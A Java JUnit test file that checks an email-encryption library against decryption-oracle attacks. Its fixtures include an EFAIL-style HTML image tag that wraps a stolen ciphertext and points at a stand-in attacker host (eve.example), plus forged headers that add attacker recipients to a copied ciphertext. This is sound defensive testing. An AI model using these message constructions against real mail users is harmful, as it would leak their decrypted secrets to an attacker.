package org.waxwing.crypto;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.waxwing.crypto.Person.ANNA;
import static org.waxwing.crypto.Person.BEN;
import static org.waxwing.crypto.Person.CARLA;
import static org.waxwing.crypto.Tree.alternative;
import static org.waxwing.crypto.Tree.encrypted;
import static org.waxwing.crypto.Tree.forwarded;
import static org.waxwing.crypto.Tree.fromAnna;
import static org.waxwing.crypto.Tree.html;
import static org.waxwing.crypto.Tree.mixed;
import static org.waxwing.crypto.Tree.text;
import static org.waxwing.crypto.Tree.with;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.waxwing.crypto.CryptographicPayload.Note;
import org.waxwing.crypto.CryptographicSummary.Status;
import org.waxwing.crypto.EnclosedLetter.Kind;
import org.waxwing.crypto.attack.Attack;
import org.waxwing.crypto.mime.Octets;

/// Letters that are made so that their reader decrypts somebody else's secret and hands it on.
class DecryptionOraclesTest {
    private static final Octets STOLEN = encrypted(List.of(ANNA), text("the secret"));

    @Test
    @Attack(1)
    void aPictureAddressThatBeginsBeforeASealedPartAndEndsAfterItGetsNothing() {
        var _ = untouched(mixed(html("<img src=\"http://eve.example/"), STOLEN, html("\">")));
    }

    @Test
    @Attack(5)
    void aSealedPartBesideAHarmlessTextStaysClosed() {
        var _ = untouched(alternative(text("What's up?"), STOLEN));
        var _ = untouched(mixed(text("What's up?"), STOLEN));
    }

    @Test
    @Attack(5)
    void aSealedLetterPassedOnBelowAHarmlessTextStaysClosed() {
        var _ = untouched(mixed(text("What's up?"), forwarded(fromAnna(STOLEN))));
        var _ = untouched(mixed(text("What's up?" + "\r\n".repeat(500)), forwarded(fromAnna(STOLEN))));
    }

    @Test
    @Attack(5)
    void armourInTheTextStaysArmour() {
        Octets armour = PretendEngine.sealedFor(List.of(BEN), List.of(ANNA), List.of(), Octets.ofUtf8("the secret"));
        var payload = BensDesk.opened(fromAnna(text("What's up?\r\n" + armour.utf8())))
                .payload();
        assertFalse(payload.content().text().contains("the secret"));
        assertEquals(List.of(Note.INLINE_PGP), payload.notes());
        assertEquals(Kind.INLINE_PGP, payload.enclosed().getFirst().kind());
    }

    @Test
    @Attack(6)
    void hundredsOfStolenLettersOpenNone() {
        List<Octets> parts = new ArrayList<>(List.of(text("Please answer")));
        for (int i = 0; i < 200; i++) {
            parts.add(STOLEN);
        }
        var payload = untouched(mixed(parts.toArray(Octets[]::new)));
        assertEquals(200, payload.errantLayers());
        assertEquals(64, payload.enclosed().size());
    }

    @Test
    @Attack(6)
    void aSealedPartInsideASealedLetterIsOpenedOnlyWhenAskedFor() {
        var outside = BensDesk.opened(fromAnna(encrypted(List.of(CARLA), mixed(text("hi"), STOLEN))));
        assertFalse(outside.payload().content().text().contains("the secret"));
        var inside = BensDesk.opened(outside.payload().enclosed().getFirst());
        assertEquals("the secret", inside.payload().content().text());
        assertEquals(Status.ENCRYPTED_BUT_UNVERIFIED, inside.summary().status());
    }

    @Test
    @Attack(7)
    void anAddressAddedToACopiedCiphertextIsToldAndNeverAnswered() {
        String fields = "From: Anna <anna@waxwing.example>\r\nTo: ben@waxwing.example\r\nSubject: Plan\r\n";
        String before = """
            HP-Outer: From: Anna <anna@waxwing.example>
            HP-Outer: To: ben@waxwing.example
            HP-Outer: Subject: [...]
            """.replace("\n", "\r\n");
        Octets payload =
                with(fields + before, Octets.ofUtf8("Content-Type: text/plain; hp=\"cipher\"\r\n\r\nthe secret"));
        Octets copied = with("""
            From: Anna <anna@waxwing.example>
            To: ben@waxwing.example, eve@eve.example
            Reply-To: eve@eve.example
            Cc: mallory@eve.example
            Subject: [...]
            """.replace("\n", "\r\n"), encrypted(List.of(ANNA), payload));
        ProtectedFields shown = BensDesk.opened(copied).payload().fields();
        assertEquals(List.of(), shown.cc());
        assertEquals(List.of(), shown.replyTo());
        assertEquals(1, shown.to().size());
        assertEquals(
                List.of("To eve@eve.example", "Reply-To eve@eve.example", "Cc mallory@eve.example"),
                shown.differences().stream()
                        .map(added -> added.field() + " " + added.found())
                        .toList());
        assertTrue(shown.differences().stream().allMatch(one -> one.change() == FieldDifference.Change.ADDED));
    }

    @Test
    @Attack(8)
    void aLetterSealedAgainForAnotherReaderSaysSo() {
        Octets sealedForCarla = Tree.around(
                PretendEngine.sealedFor(List.of(BEN), List.of(ANNA), List.of(CARLA), text("You are right")));
        assertEquals(Status.ENCRYPTED_BUT_UNVERIFIED, BensDesk.status(fromAnna(sealedForCarla)));
    }

    @Test
    @Attack(8)
    void aLetterThatNamesOnlyOthersSaysSo() {
        String fields = "From: Anna <anna@waxwing.example>\r\nTo: carla@elsewhere.example\r\nSubject: Plan\r\n";
        Octets payload = with(fields, Octets.ofUtf8("Content-Type: text/plain; hp=\"clear\"\r\n\r\nYou are right"));
        var opened = BensDesk.opened(with(fields, encrypted(List.of(ANNA), payload)));
        assertEquals(List.of(Note.NOT_AMONG_RECIPIENTS), opened.payload().notes());
    }

    @Test
    @Attack(13)
    void aSealedPartIsInNothingThatAListOrASearchCouldTake() {
        var payload = untouched(mixed(text("What's up?"), STOLEN));
        assertEquals("What's up?", payload.content().text());
    }

    /// The way in for those who ask: one at a time, with a verdict of its own.
    @Test
    @Attack(12)
    void armourOpensOnItsOwnAndProvesNothing() {
        Octets armour = PretendEngine.sealedFor(
                List.of(BEN), List.of(ANNA), List.of(), Octets.ofUtf8("From: anna@waxwing.example\r\n\r\nthe secret"));
        var outside = BensDesk.opened(fromAnna(text(armour.utf8())));
        var inside = BensDesk.opened(outside.payload().enclosed().getFirst());
        assertEquals(
                "From: anna@waxwing.example\n\nthe secret",
                inside.payload().content().text());
        assertEquals(Status.ENCRYPTED_BUT_UNVERIFIED, inside.summary().status());
        assertInstanceOf(Authenticity.Unsigned.class, inside.summary().authenticity());
        assertEquals(List.of(), inside.payload().fields().from());
    }

    private static CryptographicPayload untouched(Octets body) {
        var opened = BensDesk.opened(fromAnna(body));
        assertEquals(Status.UNPROTECTED, opened.summary().status());
        var content = opened.payload().content();
        assertFalse(content.text().contains("the secret"));
        assertFalse(content.html().orElse("").contains("the secret"));
        assertTrue(content.attachments().stream()
                .noneMatch(file -> file.content().latin1().contains("the secret")));
        assertFalse(opened.payload().enclosed().isEmpty());
        return opened.payload();
    }
}
